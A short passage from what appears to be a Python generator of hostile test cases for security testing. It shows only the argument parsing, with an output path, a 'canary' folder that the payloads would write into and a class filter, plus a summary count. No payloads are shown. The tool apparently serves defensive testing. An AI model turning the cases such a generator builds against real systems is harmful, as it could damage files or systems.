    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("out", type=Path)
    p.add_argument("--canary-dir", type=Path, required=True, help="empty folder the payloads would write into")
    p.add_argument("--only", nargs="*", help="build only these classes (1-7, 9)")
    args = p.parse_args(argv)
    cases = build(args.out.resolve(), args.canary_dir.resolve(), set(args.only) if args.only else None)
    built = [c for c in cases if not c["skipped"]]
    print(f"wrote {len(built)} hostile cases to {args.out} ({len(cases) - len(built)} skipped)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
